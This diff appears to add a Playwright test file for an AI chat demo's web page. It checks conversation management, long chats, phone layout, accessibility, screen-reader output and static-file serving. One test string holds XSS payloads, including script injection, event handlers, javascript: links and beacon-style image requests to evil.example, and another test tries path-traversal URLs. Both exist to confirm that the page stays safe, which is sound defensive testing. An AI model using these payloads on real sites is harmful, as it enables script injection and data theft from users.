@@ -1,0 +1,237 @@
+"""The page around the turns: hostile text, the list, narrow screens, accessibility, and how its files are served."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+from typing import TYPE_CHECKING, Any
+
+import httpx2
+import pytest
+from playwright.async_api import expect
+from tests.web.demo import Demo
+
+if TYPE_CHECKING:
+    from tests.conftest import Server
+    from tests.web.conftest import OpenDemo
+
+AXE = Path(__file__).parents[2] / "web_demo/node_modules/axe-core/axe.min.js"
+HOSTILE = """Hello <script>window.stolen = 1</script><img src=x onerror="window.stolen = 2">
+
+<iframe src="https://evil.example/frame"></iframe>
+<svg onload="window.stolen = 3"><style>@import "https://evil.example/style"</style></svg>
+<form action="https://evil.example"><input name=password></form>
+
+![secret](https://evil.example/picture?secret=1) ![](data:image/png;base64,AAAA)
+![x](x"onerror="window.stolen=4)
+
+[go](https://evil.example/page "title") [run](javascript:window.stolen=5) [data](data:text/html,<script>1</script>)
+<https://evil.example/auto> [odd](jAvAsCrIpT&#58;window.stolen=6) [vb](vbscript:x) <a href="x" onclick="1">raw</a>
+
+```html"onmouseover="window.stolen=7
+<script>window.stolen = 8</script>
+```
+"""
+RICH = """## Shipping
+
+We offer **two** ways, and `express` is the fast one:
+
+| Way | Days | Price |
+|---|---|---|
+| Standard | 6 to 8 business days, longer in the weeks before the holidays | $6.50 |
+| Express | 1 to 2 | $12.90 |
+
+1. Order before noon
+2. Look for the *tracking* link at [our page](https://shop.example/track)
+
+```python
+def price(express: bool) -> float:  # dollars, and this line is far too long for the screen of any telephone
+    return 12.90 if express else 6.50
+```
+
+> Free over $85.
+"""
+
+
+def made(server: Server, *texts: str, title: str = "Talk") -> str:
+    """A conversation in which user and assistant said these texts in turns; its id."""
+    roles = ["user", "assistant"] * len(texts)
+    items = [{"type": "message", "role": role, "content": text} for role, text in zip(roles, texts, strict=False)]
+    answer = httpx2.post(f"{server.url}/v1/conversations", json={"metadata": {"title": title}}, timeout=30)
+    id = answer.json()["id"]
+    for at in range(0, len(items), 20):
+        body = {"items": items[at : at + 20]}
+        httpx2.post(f"{server.url}/v1/conversations/{id}/items", json=body, timeout=30).raise_for_status()
+    return id
+
+
+async def test_hostile_text_does_nothing(open_demo: OpenDemo, server: Server) -> None:
+    """If this fails, whoever can make the model say something can run a script here, or learn what was said."""
+    conversation = made(server, HOSTILE, HOSTILE, title="<img src=x onerror=window.stolen=9>")
+    demo = await open_demo()
+    asked: list[str] = []
+    demo.page.context.on("request", lambda request: asked.append(request.url))
+    demo.page.on("dialog", lambda dialog: demo.problems.append(dialog.message))
+    await demo.open(conversation)
+    await demo.page.reload()
+    await expect(demo.answers).to_have_count(1)
+    await demo.page.mouse.move(500, 400)
+    assert await demo.page.evaluate("window.stolen") is None
+    assert not [url for url in asked if not url.startswith((server.url, "data:image/svg+xml"))]
+    assert not await demo.page.locator("#log").locator("script, img, iframe, style, form, input, svg[onload]").count()
+    links = demo.answers.locator("a[href]")
+    for link in await links.all():
+        assert await link.get_attribute("rel") == "noopener nofollow ugc"
+        assert await link.get_attribute("target") == "_blank"
+    addresses = [await link.get_attribute("href") or "" for link in await links.all()]
+    assert "https://evil.example/page" in addresses
+    assert all(address.startswith("https://evil.example/") for address in addresses)
+    assert "window.stolen = 1" in await demo.answer()  # seen, as the text that it is
+    attributes = await demo.page.locator("#log").evaluate(
+        "log => [...log.querySelectorAll('*')].flatMap(one => one.getAttributeNames())"
+    )
+    assert not [name for name in attributes if name.startswith("on") or name == "style"]
+
+
+@pytest.mark.parametrize("text", ["_call" * 1500, "> " * 5000, "1. " * 2500, "![](" * 1500, "**a `" * 1500])
+async def test_text_that_parsers_fear(open_demo: OpenDemo, server: Server, text: str) -> None:
+    """If this fails, one answer can freeze the page: it takes time by its length's square, or overflows the stack."""
+    demo = await open_demo()
+    demo.forgiven = ["status of 400"]  # some are longer than the model's window: then there is no context to show
+    await demo.open(made(server, "Say it.", text + "\n\nThe end."))
+    await demo.page.reload()
+    await expect(demo.answers.locator(".body")).to_contain_text("The end.", timeout=3000)
+    assert len(await demo.answer()) > 500
+
+
+async def test_list(open_demo: OpenDemo, server: Server) -> None:
+    """If this fails, conversations cannot be found, named, taken along or got rid of."""
+    conversation = made(server, "Where are you?", "In Thornby.", title="Zebra crossing")
+    demo = await open_demo()
+    await demo.page.get_by_role("searchbox", name="Search").fill("zebra")
+    await demo.page.get_by_role("link", name="Zebra crossing").click()
+    await expect(demo.answers.locator(".body")).to_have_text("In Thornby.")
+    await menu(demo, "Rename")
+    await demo.page.get_by_label("Title").fill("Address")
+    await demo.page.get_by_role("button", name="Rename", exact=True).last.click()
+    await expect(demo.page.get_by_role("heading", level=1)).to_have_text("Address")
+    address = f"{server.url}/v1/conversations/{conversation}"
+    assert httpx2.get(address).json()["metadata"]["title"] == "Address"
+    async with demo.page.expect_download() as download:
+        await menu(demo, "Export as JSON")
+    assert (await download.value).suggested_filename == "Address.json"
+    await menu(demo, "Delete")
+    await demo.page.get_by_role("dialog").get_by_role("button", name="Cancel").click()
+    assert httpx2.get(address).status_code == 200
+    await menu(demo, "Delete")
+    await demo.page.get_by_role("dialog").get_by_role("button", name="Delete").click()
+    await expect(demo.page.get_by_role("heading", name="How can I help?")).to_be_visible()
+    assert httpx2.get(address).status_code == 404
+    await demo.page.get_by_role("searchbox", name="Search").fill("address")
+    await expect(demo.page.locator("#list")).to_have_text("Nothing found")
+
+
+async def menu(demo: Demo, entry: str) -> None:
+    await demo.page.get_by_role("button", name="More").click()
+    await demo.page.locator("#menu").get_by_role("button", name=entry).click()
+
+
+async def test_a_long_conversation(open_demo: OpenDemo, server: Server) -> None:
+    """If this fails, the beginning of a long conversation cannot be read, or what the model has lost is not said."""
+    texts = [f"Line {number}: {'many words ' * 12}" for number in range(150)]
+    demo = await open_demo(made(server, *texts))
+    messages = demo.page.locator(".message")
+    await expect(messages).to_have_count(100)
+    await expect(messages.last).to_be_in_viewport()
+    await expect(messages.first).to_contain_text("No longer sent to the model")
+    await demo.page.get_by_role("button", name="earlier messages").click()
+    await expect(messages).to_have_count(150)
+    shown = await messages.locator(".body").all_inner_texts()
+    assert [text.split(":")[0] for text in shown] == [f"Line {number}" for number in range(150)]
+    await demo.page.locator("#meter").click()
+    await expect(demo.page.locator("#meter-panel")).to_contain_text("left out")
+
+
+async def test_phone(open_demo: OpenDemo, server: Server) -> None:
+    """If this fails, the page scrolls sideways on a phone, or its list covers it for good."""
+    demo = await open_demo(made(server, "How do you ship?" * 9, RICH), viewport={"width": 360, "height": 740})
+    await expect(demo.answers).to_have_count(1)
+    assert await sideways(demo) == 0
+    await demo.page.get_by_role("button", name="Conversations").click()
+    await demo.page.get_by_role("button", name="New conversation").click()
+    await expect(demo.page.get_by_role("heading", name="How can I help?")).to_be_in_viewport()
+    await expect(demo.page.locator("#side")).to_be_hidden()
+    assert await sideways(demo) == 0
+    await demo.send("When are you open?")
+    await demo.settle(1)
+    assert await sideways(demo) == 0
+
+
+async def sideways(demo: Demo) -> int:
+    """Pixels by which the page or the conversation is wider than its window."""
+    return await demo.page.evaluate(
+        "Math.max(...[document.documentElement, document.getElementById('scroll')]"
+        ".map(one => one.scrollWidth - one.clientWidth))"
+    )
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+async def test_accessibility(open_demo: OpenDemo, server: Server, scheme: str) -> None:
+    """If this fails, somebody who cannot see, point or tell faint colours apart cannot use a part of the page."""
+    if not AXE.is_file():
+        pytest.skip("!! NOT TESTED: accessibility needs axe-core (npm ci in web_demo/)")
+    conversation = made(server, "How do you ship?", RICH)
+    demo = await open_demo(conversation, color_scheme=scheme, reduced_motion="reduce", bypass_csp=True)
+    await expect(demo.answers).to_have_count(1)
+    await demo.page.evaluate(AXE.read_text())
+    assert await serious(demo) == []
+    await demo.page.locator("#meter").click()
+    assert await serious(demo) == []
+    await demo.page.keyboard.press("Escape")
+    await demo.page.get_by_role("button", name="Settings").click()
+    assert await serious(demo) == []
+
+
+async def serious(demo: Demo) -> list[Any]:
+    """What axe finds serious or critical: rule, and where."""
+    found = json.loads(await demo.page.evaluate("axe.run().then(result => JSON.stringify(result.violations))"))
+    return [
+        (rule["id"], [(node["html"][:200], node["failureSummary"]) for node in rule["nodes"]])
+        for rule in found
+        if rule["impact"] in ("serious", "critical")
+    ]
+
+
+async def test_screen_readers_hear_sentences(open_demo: OpenDemo) -> None:
+    """If this fails, a screen reader reads single tokens, or nothing."""
+    demo = await open_demo()
+    await demo.page.evaluate(
+        "window.heard = [];"
+        "new MutationObserver(() => window.heard.push(document.getElementById('live').textContent))"
+        ".observe(document.getElementById('live'), {childList: true})"
+    )
+    await demo.send("When are you open on Saturday?")
+    await demo.settle(1)
+    await expect(demo.page.locator("#live")).to_have_text(await demo.answer())
+    heard = await demo.page.evaluate("window.heard")
+    assert all(text.endswith(".") for text in heard)
+    assert await demo.page.get_by_role("log").get_attribute("aria-live") == "off"
+
+
+def test_files(server: Server) -> None:
+    """If this fails, the page is stale after an update, is sent whole each time, or may run what it did not bring."""
+    page = httpx2.get(server.url + "/")
+    policy = page.headers["content-security-policy"]
+    assert "default-src 'none'; script-src 'self'; style-src 'self';" in policy
+    assert "unsafe" not in policy
+    assert f"ws://127.0.0.1:{server.port}" in policy
+    for name in ("demo.js", "theme.js", "style.css"):
+        assert f"/demo/{name}" in page.text
+        whole = httpx2.get(f"{server.url}/demo/{name}", headers={"accept-encoding": "identity"})
+        packed = httpx2.get(f"{server.url}/demo/{name}", headers={"accept-encoding": "gzip"})
+        assert packed.headers["content-encoding"] == "gzip"
+        assert packed.text == whole.text
+        known = httpx2.get(f"{server.url}/demo/{name}", headers={"if-none-match": whole.headers["etag"]})
+        assert (known.status_code, known.content) == (304, b"")
+    for name in ("nothing.js", "..%2f..%2fpyproject.toml", "%2e%2e/index.html"):
+        assert httpx2.get(f"{server.url}/demo/{name}").status_code == 404
